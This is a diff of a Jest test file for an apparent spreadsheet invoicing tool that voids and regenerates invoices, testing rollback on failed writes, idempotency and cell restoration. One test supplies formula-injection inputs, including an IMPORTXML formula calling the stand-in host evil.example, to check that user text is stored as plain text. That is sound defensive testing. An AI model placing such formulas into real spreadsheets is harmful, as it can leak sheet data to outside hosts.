@@ -1,8 +1,11 @@
 import { formulaCell, textCell } from '../../fake-apps-script/src';
-import { nurserySheets, openBook, records } from './harness';
+import { PROTECTED, bookkeepersView, nurserySheets, openBook, records } from './harness';
 
 const request = (extra: object = {}) => ({
-  action: 'void-and-regenerate', invoiceIds: ['INV-1', 'INV-2', 'INV-3', 'NOPE'], reason: 'Schedule changed', ...extra,
+  action: 'void-and-regenerate',
+  invoiceIds: ['INV-1', 'INV-2', 'INV-3', 'NOPE'],
+  reason: 'Schedule changed',
+  ...extra,
 });
 
 /** Sheets cut to their rows (appends insert rows) and sheets with room to spare. */
@@ -11,43 +14,53 @@ const SHAPES: [string, Record<string, number> | undefined][] = [
   ['sheets with spare rows', { Invoices: 200, 'Invoice Lines': 200, Payments: 200, 'Credit Notes': 50 }],
 ];
 
-describe.each(SHAPES)('all or nothing (%s): a write that fails midway leaves the workbook exactly as before', (_shape, maxRows) => {
-  const open = () => openBook(nurserySheets(), { maxRows });
-  const probe = open();
-  probe.apps.faults.clear();
-  probe.call('revoiceApply', request());
-  const writePoints = probe.apps.faults.writeCount;
+describe.each(SHAPES)(
+  'all or nothing (%s): a write that fails midway leaves the workbook exactly as before',
+  (_shape, maxRows) => {
+    const open = () => openBook(nurserySheets(), { maxRows });
+    const probe = open();
+    probe.apps.faults.clear();
+    probe.call('revoiceApply', request());
+    const writePoints = probe.apps.faults.writeCount;
 
-  it('the multi-invoice apply has several write points', () => {
-    expect(writePoints).toBeGreaterThanOrEqual(8);
-  });
+    it('the multi-invoice apply has several write points', () => {
+      expect(writePoints).toBeGreaterThanOrEqual(8);
+    });
 
-  it.each(Array.from({ length: writePoints }, (_, i) => i + 1))('failing write %i of the apply restores everything', (n) => {
-    const book = open();
-    const before = book.apps.snapshot();
-    book.apps.faults.failWriteAt(n);
-    const response = book.call('revoiceApply', request());
-    expect(response).toMatchObject({ ok: false, code: 'WRITE_FAILED' });
-    expect(response.message).toMatch(/Nothing was changed/);
-    expect(book.apps.snapshot()).toEqual(before);
-    expect(book.apps.lock.released).toBe(book.apps.lock.acquired);
-  });
-});
+    it.each(Array.from({ length: writePoints }, (_, i) => i + 1))(
+      'failing write %i of the apply restores everything',
+      (n) => {
+        const book = open();
+        const before = bookkeepersView(book.apps);
+        book.apps.faults.failWriteAt(n, PROTECTED);
+        const response = book.call('revoiceApply', request());
+        expect(response).toMatchObject({ ok: false, code: 'WRITE_FAILED' });
+        expect(response.message).toMatch(/Nothing was changed/);
+        expect(bookkeepersView(book.apps)).toEqual(before);
+        expect(book.apps.lock.released).toBe(book.apps.lock.acquired);
+      },
+    );
+  },
+);
 
 describe('restoring overwritten cells exactly', () => {
   it('puts back a formula and a number-like text that the void overwrote', () => {
     const sheets = nurserySheets();
     sheets.Invoices[0].push('Voided At', 'Void Reason');
-    sheets.Invoices[1][8] = formulaCell('=IF(TRUE,"open","paid")', 'open');
+    // a Status formula is refused now (a void it swallowed would be reported but never shown): Total's is kept
+    sheets.Invoices[1][11] = formulaCell('=J2+K2', 135);
     sheets.Invoices[1].push('', textCell('0042'));
     const probe = openBook(sheets);
     probe.call('revoiceApply', { action: 'void-and-regenerate', invoiceIds: ['INV-1'] });
     const book = openBook(sheets);
-    const before = book.apps.snapshot();
-    book.apps.faults.failWriteAt(probe.apps.faults.writeCount); // the last write: everything else is written by then
-    expect(book.call('revoiceApply', { action: 'void-and-regenerate', invoiceIds: ['INV-1'] })).toMatchObject({ code: 'WRITE_FAILED' });
-    expect(book.apps.snapshot()).toEqual(before);
-    expect(book.apps.formulas('Invoices')[1][8]).toBe('=IF(TRUE,"open","paid")');
+    const before = bookkeepersView(book.apps);
+    // the last write of the changes (the journal's "done" mark follows): everything else is written by then
+    book.apps.faults.failWriteAt(probe.apps.faults.writeCount - 1, PROTECTED);
+    expect(book.call('revoiceApply', { action: 'void-and-regenerate', invoiceIds: ['INV-1'] })).toMatchObject({
+      code: 'WRITE_FAILED',
+    });
+    expect(bookkeepersView(book.apps)).toEqual(before);
+    expect(book.apps.formulas('Invoices')[1][11]).toBe('=J2+K2');
     expect(probe.apps.display('Invoices')[1][15]).toBe('');
   });
 });
@@ -79,7 +92,12 @@ describe('once only', () => {
     const payments = book.apps.spreadsheet.getSheetByName('Payments')!;
     payments.insertRowsAfter(payments.getMaxRows(), 1);
     payments.getRange(4, 1, 1, 4).setValues([['P-9', 'INV-1', 'x', 10]]);
-    const response = book.call('revoiceApply', { action: 'void-and-regenerate', invoiceIds: ['INV-1', 'INV-2'], fingerprints, requestKey: 'k' });
+    const response = book.call('revoiceApply', {
+      action: 'void-and-regenerate',
+      invoiceIds: ['INV-1', 'INV-2'],
+      fingerprints,
+      requestKey: 'k',
+    });
     expect(response.results[0]).toMatchObject({ invoiceId: 'INV-1', ok: false, code: 'STALE' });
     expect(response.results[1]).toMatchObject({ invoiceId: 'INV-2', ok: true, newInvoiceId: 'INV-2-R1' });
   });
@@ -106,9 +124,13 @@ describe('once only', () => {
 });
 
 describe('nothing lost, nothing leaked', () => {
-  it('never edits existing payments, lines or invoices other than the original\'s own cells', () => {
+  it("never edits existing payments, lines or invoices other than the original's own cells", () => {
     const book = openBook(nurserySheets());
-    const before = { lines: book.apps.display('Invoice Lines'), payments: book.apps.display('Payments'), invoices: book.apps.display('Invoices') };
+    const before = {
+      lines: book.apps.display('Invoice Lines'),
+      payments: book.apps.display('Payments'),
+      invoices: book.apps.display('Invoices'),
+    };
     book.call('revoiceApply', request());
     expect(book.apps.display('Invoice Lines').slice(0, before.lines.length)).toEqual(before.lines);
     expect(book.apps.display('Payments').slice(0, before.payments.length)).toEqual(before.payments);
@@ -124,8 +146,17 @@ describe('nothing lost, nothing leaked', () => {
   it('writes user text as text, never as a formula', () => {
     const book = openBook(nurserySheets());
     const reason = '=IMPORTXML("http://evil.example","//a")';
-    const add = [{ description: '+SUM(A1:A9)', quantity: '1', unitPrice: '5' }, { description: '@me -1', quantity: 2, unitPrice: 1 }];
-    const response = book.call('revoiceApply', { action: 'void-and-regenerate', invoiceIds: ['INV-1'], reason, mode: 'copy', edits: { 'INV-1': { add } } });
+    const add = [
+      { description: '+SUM(A1:A9)', quantity: '1', unitPrice: '5' },
+      { description: '@me -1', quantity: 2, unitPrice: 1 },
+    ];
+    const response = book.call('revoiceApply', {
+      action: 'void-and-regenerate',
+      invoiceIds: ['INV-1'],
+      reason,
+      mode: 'copy',
+      edits: { 'INV-1': { add } },
+    });
     expect(response.results[0].ok).toBe(true);
     const invoice = records(book, 'Invoices')[0];
     expect(invoice['Void Reason']).toBe(reason);
@@ -144,7 +175,10 @@ describe('nothing lost, nothing leaked', () => {
     const response = book.call('revoiceApply', { action: 'void-and-regenerate', invoiceIds: ['INV "A"'] });
     expect(response.results[0].newInvoiceId).toBe('INV "A"-R1');
     const header = book.apps.display('Invoices')[0];
-    expect(book.apps.resolveLink('Invoices', 2, header.indexOf('Regenerated As') + 1)).toMatchObject({ label: 'INV "A"-R1', targetRow: 5 });
+    expect(book.apps.resolveLink('Invoices', 2, header.indexOf('Regenerated As') + 1)).toMatchObject({
+      label: 'INV "A"-R1',
+      targetRow: 5,
+    });
   });
 
   it('leaves unknown columns alone and never copies them to new rows', () => {
@@ -160,7 +194,14 @@ describe('nothing lost, nothing leaked', () => {
     book.call('revoiceApply', request());
     const after = book.apps.display('Invoices')[0];
     expect(after.slice(0, header.length)).toEqual(header);
-    expect(after.slice(header.length)).toEqual(['Voided At', 'Void Reason', 'Regenerated From', 'Regenerated As', 'Paid', 'Balance']);
+    expect(after.slice(header.length)).toEqual([
+      'Voided At',
+      'Void Reason',
+      'Regenerated From',
+      'Regenerated As',
+      'Paid',
+      'Balance',
+    ]);
   });
 
   it('writes an Audit Log row per applied invoice', () => {
@@ -180,9 +221,19 @@ describe('fingerprints across chunks', () => {
     const book = openBook(nurserySheets());
     const preview = book.call('revoicePreview', { action: 'void', invoiceIds: ['INV-1', 'INV-2'] });
     const fingerprints = Object.fromEntries(preview.results.map((r: any) => [r.invoiceId, r.fingerprint]));
-    const first = book.call('revoiceApply', { action: 'void', invoiceIds: ['INV-1'], fingerprints: { 'INV-1': fingerprints['INV-1'] }, requestKey: 'k-c1' });
+    const first = book.call('revoiceApply', {
+      action: 'void',
+      invoiceIds: ['INV-1'],
+      fingerprints: { 'INV-1': fingerprints['INV-1'] },
+      requestKey: 'k-c1',
+    });
     expect(first.results[0].ok).toBe(true);
-    const second = book.call('revoiceApply', { action: 'void', invoiceIds: ['INV-2'], fingerprints: { 'INV-2': fingerprints['INV-2'] }, requestKey: 'k-c2' });
+    const second = book.call('revoiceApply', {
+      action: 'void',
+      invoiceIds: ['INV-2'],
+      fingerprints: { 'INV-2': fingerprints['INV-2'] },
+      requestKey: 'k-c2',
+    });
     expect(second.results[0]).toMatchObject({ ok: true, voided: true });
   });
 });
